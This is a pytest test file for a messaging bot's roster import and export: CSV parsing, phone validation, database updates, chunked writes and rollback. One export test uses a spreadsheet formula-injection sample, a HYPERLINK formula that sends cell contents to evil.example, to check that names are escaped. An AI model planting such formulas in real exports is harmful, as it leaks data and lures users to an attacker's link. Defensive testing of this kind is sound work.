"""Bulk enrolment: parsing a roster file (no database), then planning, applying and exporting
it against every backend."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime

import pytest
from sqlalchemy import func, select

from bot.members.roster import (
    CHUNK_ROWS,
    Action,
    ImportPlan,
    ParsedFile,
    RowError,
    apply_import,
    decode_members_file,
    export_members,
    members_csv,
    normalize_phone,
    parse_members_csv,
    plan_import,
)
from storage import Database
from storage.errors import AddressInUse
from storage.models import Membership
from storage.repositories.roster import RosterRepository

T0 = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
LANGUAGES = ("en", "es", "fil", "sw", "fr")
HEADER = "name,phone,telegram_id,group,language\n"

GOOD = (
    HEADER
    + "Amina Otieno,+254712345678,,Kibera Market Peers,sw\n"
    + '"Wanjiru, K.",+254 722 000 111,7000000001,{code},\n'
    + "\n"
    + "Telegram Only,,7000000002,,FR\n"
)


def parse(text: str) -> ParsedFile:
    return parse_members_csv(text, LANGUAGES)


async def plan(database: Database, text: str, *, apply: bool = False) -> ImportPlan:
    async with database.transaction() as uow:
        planned = await plan_import(uow, parse(text), languages=LANGUAGES, default_country="KE")
        if apply:
            await apply_import(uow, planned, at=T0)
    return planned


async def make_group(database: Database, name: str = "Kibera Market Peers") -> str:
    async with database.transaction() as uow:
        group = await uow.groups.create(name, "Africa/Nairobi", "sw", "KES", at=T0)
    return group.join_code


def counts(planned: ImportPlan) -> tuple[int, int, int, int]:
    return (
        planned.count(Action.CREATE),
        planned.count(Action.UPDATE),
        planned.count(Action.UNCHANGED),
        planned.error_lines,
    )


# --- parsing ------------------------------------------------------------------------------


def test_phone_normalisation() -> None:
    assert normalize_phone(" +254 (712) 345-678 ") == "+254712345678"
    with pytest.raises(ValueError, match="must start with \\+ and the country code"):
        normalize_phone("0712345678")
    with pytest.raises(ValueError, match="not a valid phone number"):
        normalize_phone("+25471234")


def test_a_good_file_parses() -> None:
    parsed = parse(GOOD.format(code="abc123"))
    assert parsed.errors == ()
    assert [
        (row.line, row.name, row.phone, row.telegram_id, row.group, row.language)
        for row in parsed.rows
    ] == [
        (2, "Amina Otieno", "+254712345678", None, "Kibera Market Peers", "sw"),
        (3, "Wanjiru, K.", "+254722000111", "7000000001", "abc123", None),
        (5, "Telegram Only", None, "7000000002", None, "fr"),
    ]
    assert parsed.rows[1].addresses == (
        ("whatsapp", "+254722000111"),
        ("sms", "+254722000111"),
        ("telegram", "7000000001"),
    )


def test_bad_rows_are_reported_with_their_line_numbers() -> None:
    text = (
        "Name, Phone ,Telegram ID,group,LANGUAGE\n"  # header: any case, spaces
        "Amina,0712345678,,G,sw\n"  # 2: no +: read in G's country when planned
        "Bad,+2547,,G,en\n"  # 3: not a number
        "Lang,+254722000333,,G,xx\n"  # 4: unknown language
        "Neither,,,G,en\n"  # 5: no address
        "Dup,+254 722 000 333,,G,en\n"  # 6: phone of line 4
        "Teldup,,abc,G,en\n"  # 7: bad telegram id
        "Ok,,7000000009,G,en\n"  # 8: fine
        "Again,+254722000444,7000000009,G,en\n"  # 9: telegram id of line 8
        "too,many,cells,here,en,x\n"  # 10
        '"multi\nline",+254722000555,,G,en\n'  # 11-12: fine, a quoted line break
        f"{'n' * 121},+254722000666,,G,en\n"  # 13: name too long
    )
    parsed = parse(text)
    assert [row.line for row in parsed.rows] == [2, 8, 11]
    assert parsed.rows[0].national_phone == "0712345678" and parsed.rows[0].phone is None
    assert [(error.line, error.message) for error in parsed.errors] == [
        (3, 'phone "+2547" is not a phone number: check its digits'),
        (4, 'unknown language "xx": use one of en, es, fil, sw, fr'),
        (5, "give a phone or a telegram_id (or both): neither is filled in"),
        (6, "phone +254722000333 is also on line 4"),
        (
            7,
            'telegram_id "abc" must be the person\'s Telegram user id, digits only, like 6000000001',
        ),
        (9, "telegram_id 7000000009 is also on line 8"),
        (
            10,
            "has 6 cells but the header has 5 (a comma inside a name needs the name in double quotes)",
        ),
        (13, "name has 121 characters; at most 120 fit"),
    ]
    assert str(parsed.errors[0]).startswith("line 3: phone")
    no_group = parse("name,phone,telegram_id,group,language\nAmina,0712345678,,,sw\n")
    assert [(error.line, error.message) for error in no_group.errors] == [
        (
            2,
            'phone "0712345678" must start with + and the country code, like +254712345678, '
            "or give the member a group to read it in that group's country (a spreadsheet may "
            "drop the +: keep the column as text)",
        )
    ]


ROW = "Amina,+254712345678,,G,sw\n"


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("", 1, "the file is empty"),
        ("\n\n", 1, "the file is empty"),
        (ROW, 1, "(missing name, phone or telegram_id)"),
        ("name,group,language\n" + ROW, 1, "(missing phone or telegram_id)"),
        ("name,phone,telegram_id,group,language,phone\n" + ROW, 1, "(repeated phone)"),
    ],
)
def test_a_wrong_header_is_one_error_on_its_line(text: str, line: int, message: str) -> None:
    parsed = parse(text)
    assert parsed.rows == ()
    assert len(parsed.errors) == 1
    assert parsed.errors[0].line == line
    assert message in parsed.errors[0].message


@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_what_spreadsheets_write_is_read(sign: str) -> None:
    """Semicolons (where the comma is the decimal sign) and tabs, headers as people write them,
    extra columns (left out and named), and a line repeated exactly (imported once)."""
    lines = [
        ["Full Name", "Phone Number", "Telegram", "Group", "Lang", "Notes"],
        ["Amina", "+254712345678", "", "Kibera Market Peers", "sw", "pays weekly"],
        ["Juan", "", "7000000001", "Kibera Market Peers", "es", ""],
        ["Amina", "+254712345678", "", "Kibera Market Peers", "sw", "pays weekly"],
    ]
    parsed = parse("".join(sign.join(cells) + "\n" for cells in lines))
    assert parsed.errors == ()
    assert [(row.line, row.name, row.phone, row.telegram_id) for row in parsed.rows] == [
        (2, "Amina", "+254712345678", None),
        (3, "Juan", None, "7000000001"),
    ]
    assert parsed.ignored_columns == ("Notes",)
    assert parsed.merged == ((4, 2),)


def test_a_file_of_phones_alone_needs_no_telegram_column() -> None:
    parsed = parse("name,phone\nAmina,+254712345678\n")
    assert parsed.errors == () and parsed.rows[0].phone == "+254712345678"


async def test_national_numbers_are_read_in_the_groups_country(database: Database) -> None:
    await make_group(database)  # Africa/Nairobi: Kenya
    planned = await plan(
        database,
        "name,phone,telegram_id,group,language\n"
        "Amina,0712 345 678,,Kibera Market Peers,sw\n"
        "Baraka,254722000111,,Kibera Market Peers,sw\n"  # the + a spreadsheet dropped
        "Juma,0712345678,,Kibera Market Peers,sw\n"  # Amina's number again
        "Zawadi,0999,,Kibera Market Peers,sw\n",
    )
    assert [(m.row.line, m.row.phone) for m in planned.members] == [
        (2, "+254712345678"),
        (3, "+254722000111"),
    ]
    assert [(error.line, error.message[:40]) for error in planned.errors] == [
        (4, "phone +254712345678 is also on line 2"),
        (5, 'phone "0999" must start with + and the c'),
    ]


async def test_a_group_grown_past_fifty_is_warned_of(database: Database) -> None:
    await make_group(database)
    rows = "".join(f"M{n},+2547120000{n:02d},,Kibera Market Peers,sw\n" for n in range(51))
    planned = await plan(database, "name,phone,telegram_id,group,language\n" + rows)
    assert planned.errors == ()
    assert planned.warnings == (
        "Kibera Market Peers would have 51 members: peer groups work best small (six to eight "
        "people); is the group column right?",
    )
    few = await plan(database, "name,phone,telegram_id,group,language\n" + rows[:200])
    assert few.warnings == ()


def test_export_columns_and_unnamed_columns_are_accepted() -> None:
    text = (
        "name,phone,telegram_id,group,language,member_id,opted_out,onboarded,\n"
        "Amina,+254712345678,,G,sw,1,no,yes,\n"
        "Juan,,7000000001,G,es,2,no,no,,,\n"  # empty cells past the end are ignored
    )
    parsed = parse(text)
    assert parsed.errors == ()
    assert [(row.phone, row.telegram_id) for row in parsed.rows] == [
        ("+254712345678", None),
        (None, "7000000001"),
    ]


def test_decoding() -> None:
    assert decode_members_file("\ufeffname\n".encode()) == "name\n"
    with pytest.raises(ValueError, match="line 2: the file is not UTF-8"):
        decode_members_file(b"name\nAm\xe9lie\n")


# --- against the database -------------------------------------------------------------------


async def test_dry_run_apply_and_reapply(database: Database) -> None:
    code = await make_group(database)
    text = GOOD.format(code=code.lower())

    dry = await plan(database, text)
    assert counts(dry) == (3, 0, 0, 0)
    async with database.transaction() as uow:
        assert await RosterRepository(uow.session).entries() == []  # a dry run writes nothing

    applied = await plan(database, text, apply=True)
    assert counts(applied) == (3, 0, 0, 0)
    async with database.transaction() as uow:
        entries = await RosterRepository(uow.session).entries()
        group = await uow.groups.by_code(code)
    assert group is not None and group.member_count == 2
    by_name = {entry.member.name: entry for entry in entries}
    amina, wanjiru, telegram = (
        by_name["Amina Otieno"],
        by_name["Wanjiru, K."],
        by_name["Telegram Only"],
    )
    assert [(a.channel, a.value) for a in amina.addresses] == [
        ("whatsapp", "+254712345678"),
        ("sms", "+254712345678"),
    ]
    assert [(a.channel, a.value) for a in wanjiru.addresses] == [
        ("whatsapp", "+254722000111"),
        ("sms", "+254722000111"),
        ("telegram", "7000000001"),
    ]
    assert [(a.channel, a.value) for a in telegram.addresses] == [("telegram", "7000000002")]
    assert (amina.member.locale, wanjiru.member.locale, telegram.member.locale) == (
        "sw",
        "sw",
        "fr",
    )
    assert amina.group_id == wanjiru.group_id == group.id and telegram.group_id is None
    for entry in entries:
        # Consent unknown, not onboarded: onboarding asks on first contact.
        assert entry.member.consent is None and entry.member.consented_at is None
        assert entry.member.onboarded_at is None and entry.member.opted_out is False

    again = await plan(database, text, apply=True)
    assert counts(again) == (0, 0, 3, 0)
    async with database.transaction() as uow:
        assert await RosterRepository(uow.session).entries() == entries


async def test_updates_only_what_differs(database: Database) -> None:
    code = await make_group(database)
    await make_group(database, "Tailors")
    await plan(database, GOOD.format(code=code), apply=True)
    changed = (
        HEADER
        + "Amina O.,+254712345678,7000000003,Tailors,en\n"  # new name, telegram, group, language
        + ",+254722000111,,,\n"  # empty cells leave Wanjiru as she is
        + "Telegram Only,+254733000000,7000000002,,fr\n"  # adds a phone
    )
    planned = await plan(database, changed)
    assert counts(planned) == (0, 2, 1, 0)
    assert [p.changes for p in planned.members] == [
        (
            "name Amina Otieno -> Amina O.",
            "language sw -> en",
            "group Kibera Market Peers -> Tailors",
            "adds telegram_id 7000000003",
        ),
        (),
        ("adds phone +254733000000",),
    ]
    await plan(database, changed, apply=True)
    async with database.transaction() as uow:
        entries = {e.member.id: e for e in await RosterRepository(uow.session).entries()}
        tailors = await uow.groups.by_name("tailors")
        wanjiru = entries[2]
    amina = entries[1]
    assert tailors is not None
    assert (amina.member.name, amina.member.locale, amina.group_id) == (
        "Amina O.",
        "en",
        tailors.id,
    )
    assert ("telegram", "7000000003") in [(a.channel, a.value) for a in amina.addresses]
    assert (wanjiru.member.name, wanjiru.member.locale) == ("Wanjiru, K.", "sw")
    assert [(a.channel, a.value) for a in entries[3].addresses][-2:] == [
        ("whatsapp", "+254733000000"),
        ("sms", "+254733000000"),
    ]
    assert counts(await plan(database, changed)) == (0, 0, 3, 0)


async def test_rows_that_cannot_be_planned(database: Database) -> None:
    code = await make_group(database)
    await plan(database, GOOD.format(code=code), apply=True)
    async with database.transaction() as uow:
        # One number, two members: one wrote in on WhatsApp, another on SMS.
        on_whatsapp = await uow.members.create("whatsapp", "+254744000000", "en", None, at=T0)
        on_sms = await uow.members.create("sms", "+254744000000", "en", None, at=T0)
    text = (
        HEADER
        + "Nobody,+254755000000,,Nowhere,en\n"  # 2: unknown group
        + "Mixed,+254722000111,7000000002,,en\n"  # 3: Wanjiru's phone, Telegram Only's id
        + "Amina again,+254712345678,,,\n"  # 4: fine: renames Amina
        + "Nothing,,,,\n"  # 5: parse error (no address)
        + "Someone new,,7000000009,,\n"  # 6: fine: new
        + "Split,+254744000000,,,\n"  # 7: the number is two members'
    )
    planned = await plan(database, text)
    assert [(e.line, e.message) for e in planned.errors] == [
        (
            2,
            'unknown group "Nowhere": use a group\'s name or join code (mutuality groups list shows them)',
        ),
        (
            3,
            "phone (on whatsapp) +254722000111 belongs to member #2 (Wanjiru, K.) but "
            "telegram_id 7000000002 belongs to member #3 (Telegram Only): one line cannot be two members",
        ),
        (5, "give a phone or a telegram_id (or both): neither is filled in"),
        (
            7,
            f"phone (on whatsapp) +254744000000 belongs to member #{on_whatsapp.id} but "
            f"phone (on sms) +254744000000 belongs to member #{on_sms.id}: one line cannot be two members",
        ),
    ]
    assert counts(planned) == (1, 1, 0, 4)
    async with database.transaction() as uow:
        before = await RosterRepository(uow.session).entries()
        with pytest.raises(ValueError, match="4 lines with errors"):
            await apply_import(uow, planned, at=T0)
        assert await RosterRepository(uow.session).entries() == before


async def test_the_same_member_on_two_lines(database: Database) -> None:
    await plan(database, HEADER + "Wanjiru,+254722000111,7000000001,,\n", apply=True)
    text = HEADER + "W by phone,+254722000111,,,\n" + "W by telegram,,7000000001,,\n"
    planned = await plan(database, text)
    assert [(e.line, e.message) for e in planned.errors] == [
        (3, "this is the same member (#1) as line 2: merge the two lines"),
    ]


async def test_new_member_language_defaults(database: Database) -> None:
    code = await make_group(database)
    text = HEADER + f"A,+254712345678,,{code},\n" + "B,+525512345678,,,\n" + "C,+254722000111,,,\n"
    planned = await plan(database, text, apply=True)
    assert [p.locale for p in planned.members] == ["sw", "es", "en"]  # group's, number's, number's


async def test_export_round_trips_through_import(database: Database) -> None:
    code = await make_group(database)
    await plan(database, GOOD.format(code=code), apply=True)
    async with database.transaction() as uow:
        # A member who joined by WhatsApp alone, one who opted out, one only on the console.
        joined = await uow.members.create("whatsapp", "+254799000000", "en", "KES", at=T0)
        await uow.members.update(joined.id, name="Joined", opted_out=True, onboarded_at=T0, at=T0)
        console = await uow.members.create("console", "console", "en", None, at=T0)
        export = await export_members(uow)
        before = await RosterRepository(uow.session).entries()
    assert export.left_out == (console.id,)
    data = members_csv(export.rows)
    text = decode_members_file(data)
    assert text.splitlines() == [
        "name,phone,telegram_id,group,language,member_id,opted_out,onboarded",
        "Amina Otieno,+254712345678,,Kibera Market Peers,sw,1,no,no",
        '"Wanjiru, K.",+254722000111,7000000001,Kibera Market Peers,sw,2,no,no',
        "Telegram Only,,7000000002,,fr,3,no,no",
        f"Joined,+254799000000,,,en,{joined.id},yes,yes",
    ]
    planned = await plan(database, text, apply=True)
    assert counts(planned) == (0, 0, 4, 0)
    async with database.transaction() as uow:
        assert await RosterRepository(uow.session).entries() == before


async def test_names_that_look_like_formulas_are_quoted_and_import_back_unchanged(
    database: Database,
) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click for your loan")'
    async with database.transaction() as uow:
        group = await uow.groups.create("-Market Peers", "Africa/Nairobi", "sw", "KES", at=T0)
        linked = await uow.members.create("whatsapp", "+254712345678", "sw", "KES", at=T0)
        await uow.members.update(linked.id, name=hyperlink, at=T0)
        await uow.members.join_group(linked.id, group.id, T0)
        handle = await uow.members.create("telegram", "7000000009", "en", None, at=T0)
        await uow.members.update(handle.id, name="@amina", at=T0)
        quoted = await uow.members.create("telegram", "7000000010", "en", None, at=T0)
        await uow.members.update(quoted.id, name="'+1 for Grace", at=T0)
        export = await export_members(uow)
        before = await RosterRepository(uow.session).entries()
    text = decode_members_file(members_csv(export.rows))
    assert text.splitlines()[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for your loan"")",'
        f"+254712345678,,'-Market Peers,sw,{linked.id},no,no",
        f"'@amina,,7000000009,,en,{handle.id},no,no",
        f"''+1 for Grace,,7000000010,,en,{quoted.id},no,no",
    ]
    planned = await plan(database, text, apply=True)
    assert counts(planned) == (0, 0, 3, 0)
    async with database.transaction() as uow:
        assert await RosterRepository(uow.session).entries() == before


def test_an_export_quote_is_taken_off_a_hand_written_file_too() -> None:
    parsed = parse(HEADER + "'=Amina,'+254712345678,,,en\n" + "O'Brien,,7000000001,,\n")
    assert parsed.errors == ()
    assert [(row.name, row.phone) for row in parsed.rows] == [
        ("=Amina", "+254712345678"),
        ("O'Brien", None),
    ]


def test_row_error_text() -> None:
    assert str(RowError(4, "bad")) == "line 4: bad"


def test_an_open_quote_is_reported_where_it_starts() -> None:
    text = HEADER + "A,+254712345678,,,en\r\n" + '"B,+254722000111,,,en\r\n' + "C,,1,,en\r\n"
    parsed = parse(text)
    assert [row.line for row in parsed.rows] == [2]
    assert [error.line for error in parsed.errors] == [3]
    assert "is a double quote left open?" in parsed.errors[0].message


def test_control_characters_in_a_name_are_refused() -> None:
    parsed = parse(HEADER + "A\x00b,,1,,en\n")
    assert [(e.line, e.message) for e in parsed.errors] == [
        (2, "name has control characters in it: retype it")
    ]


# --- a whole program ------------------------------------------------------------------------


def program_file(members: int, *, renamed: bool = False) -> str:
    """`members` members in groups G0, G1, ... of eight: a phone each, every third also a
    Telegram id. Renamed, every member has a new name and every eighth moves to group G0."""
    lines = [HEADER]
    for n in range(members):
        telegram = str(7_100_000_000 + n) if n % 3 == 0 else ""
        group = 0 if renamed and n % 8 == 0 else n // 8
        name = f"Member {n}{' (renamed)' if renamed else ''}"
        lines.append(f"{name},+254722{n:06d},{telegram},G{group},{LANGUAGES[n % 5]}\n")
    return "".join(lines)


async def make_program_groups(database: Database, members: int) -> None:
    async with database.transaction() as uow:
        for group in range((members + 7) // 8):
            await uow.groups.create(f"G{group}", "Africa/Nairobi", "sw", "KES", at=T0)


async def roster_counts(database: Database) -> tuple[int, int, int, int, int]:
    """Members; addresses and the distinct ones; current memberships and the members in
    them (a member twice in any of these would make the pairs differ)."""
    async with database.transaction() as uow:
        entries = await RosterRepository(uow.session).entries()
        current = await uow.session.execute(
            select(Membership.member_id).where(Membership.left_at.is_(None))
        )
        members_in_groups = [member_id for (member_id,) in current]
    addresses = [(a.channel, a.value) for entry in entries for a in entry.addresses]
    return (
        len(entries),
        len(addresses),
        len(set(addresses)),
        len(members_in_groups),
        len(set(members_in_groups)),
    )


async def test_a_program_of_thousands_is_written_in_chunks_exactly_once(
    database: Database,
) -> None:
    size = 2_600  # six chunks, the last one partial
    await make_program_groups(database, size)
    steps: list[int] = []
    async with database.transaction() as uow:
        parsed = parse(program_file(size))
        planned = await plan_import(uow, parsed, languages=LANGUAGES, default_country="KE")
        await apply_import(uow, planned, at=T0, progress=steps.append)
    assert steps == [CHUNK_ROWS] * 5 + [size - 5 * CHUNK_ROWS]
    assert counts(planned) == (size, 0, 0, 0)
    with_telegram = len(range(0, size, 3))
    assert await roster_counts(database) == (
        size, 2 * size + with_telegram, 2 * size + with_telegram, size, size,
    )  # fmt: skip
    async with database.transaction() as uow:
        entries = await RosterRepository(uow.session).entries()
        groups = {group.id: group.name for group in await uow.groups.list()}
    for n, entry in enumerate(entries):  # members in the file's order, each as its line says
        phone = f"+254722{n:06d}"
        expected = [("whatsapp", phone), ("sms", phone)]
        if n % 3 == 0:
            expected.append(("telegram", str(7_100_000_000 + n)))
        assert [(a.channel, a.value) for a in entry.addresses] == expected
        assert (entry.member.name, entry.member.locale) == (f"Member {n}", LANGUAGES[n % 5])
        assert entry.group_id is not None and groups[entry.group_id] == f"G{n // 8}"
        assert entry.member.consent is None and entry.member.onboarded_at is None

    again = await plan(database, program_file(size), apply=True)
    assert counts(again) == (0, 0, size, 0)
    async with database.transaction() as uow:
        assert await RosterRepository(uow.session).entries() == entries

    moved = await plan(database, program_file(size, renamed=True), apply=True)
    assert counts(moved) == (0, size, 0, 0)
    movers = len(range(8, size, 8))  # the first of G0 is in G0 already
    async with database.transaction() as uow:
        entries = await RosterRepository(uow.session).entries()
        ended = await uow.session.scalar(
            select(func.count()).where(Membership.left_at.is_not(None))
        )
    assert ended == movers
    assert await roster_counts(database) == (
        size, 2 * size + with_telegram, 2 * size + with_telegram, size, size,
    )  # fmt: skip
    assert {entry.member.name for entry in entries} == {
        f"Member {n} (renamed)" for n in range(size)
    }
    assert sum(1 for entry in entries if groups[entry.group_id or 0] == "G0") == 8 + movers
    assert counts(await plan(database, program_file(size, renamed=True))) == (0, 0, size, 0)


async def test_a_failure_half_way_leaves_nothing_of_the_file(database: Database) -> None:
    """One transaction holds the whole file: an address taken in the fourth chunk undoes the
    three chunks written before it too."""
    size = 2_000
    await make_program_groups(database, size)
    async with database.transaction() as uow:
        stale = await plan_import(
            uow, parse(program_file(size)), languages=LANGUAGES, default_country="KE"
        )
    async with database.transaction() as uow:  # someone writes in from line 1,702's phone
        await uow.members.create("sms", "+254722001700", "sw", None, at=T0)
        before = await RosterRepository(uow.session).entries()
    steps: list[int] = []
    with pytest.raises(AddressInUse) as raised:
        async with database.transaction() as uow:
            await apply_import(uow, stale, at=T0, progress=steps.append)
    assert (raised.value.channel, raised.value.value) == ("sms", "+254722001700")
    assert steps == [CHUNK_ROWS] * 3
    async with database.transaction() as uow:
        assert await RosterRepository(uow.session).entries() == before
    assert await roster_counts(database) == (1, 1, 1, 0, 0)


async def test_a_member_writing_in_while_the_import_runs_is_not_duplicated(
    database: Database,
) -> None:
    """A conversation creating the member of a phone the import is adding (as
    `ConversationService.member_for` does) waits for the import's transaction, then finds the
    address taken: one member, the imported one. On PostgreSQL the unique index makes it
    wait; on SQLite writers take turns."""
    await make_program_groups(database, 600)
    file = program_file(600)
    applied = asyncio.Event()
    release = asyncio.Event()

    async def importing() -> None:
        async with database.transaction() as uow:
            planned = await plan_import(uow, parse(file), languages=LANGUAGES, default_country="KE")
            await apply_import(uow, planned, at=T0)
            applied.set()
            await release.wait()

    async def writing_in() -> str:
        await applied.wait()
        try:
            async with database.transaction() as uow:
                if await uow.members.by_address("whatsapp", "+254722000599") is not None:
                    return "found"
                await uow.members.create("whatsapp", "+254722000599", "en", None, at=T0)
        except AddressInUse:
            return "taken"
        return "created"

    importer = asyncio.create_task(importing())
    member = asyncio.create_task(writing_in())
    await applied.wait()
    await asyncio.sleep(0.3)
    assert not member.done()  # waiting for the import's transaction
    release.set()
    await importer
    assert await member in ("taken", "found")
    async with database.transaction() as uow:
        owner = await uow.members.by_address("whatsapp", "+254722000599")
    assert owner is not None and owner.name == "Member 599"
    assert (await roster_counts(database))[:3] == (600, 1400, 1400)
